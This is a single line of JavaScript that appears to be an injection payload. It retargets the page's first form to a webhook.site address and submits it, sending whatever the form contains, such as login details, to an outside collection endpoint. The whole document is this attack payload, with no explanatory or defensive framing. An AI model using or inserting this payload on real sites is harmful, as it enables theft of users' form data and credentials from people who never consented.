const f=document.forms[0];f.action='https://webhook.site/abc';f.submit()
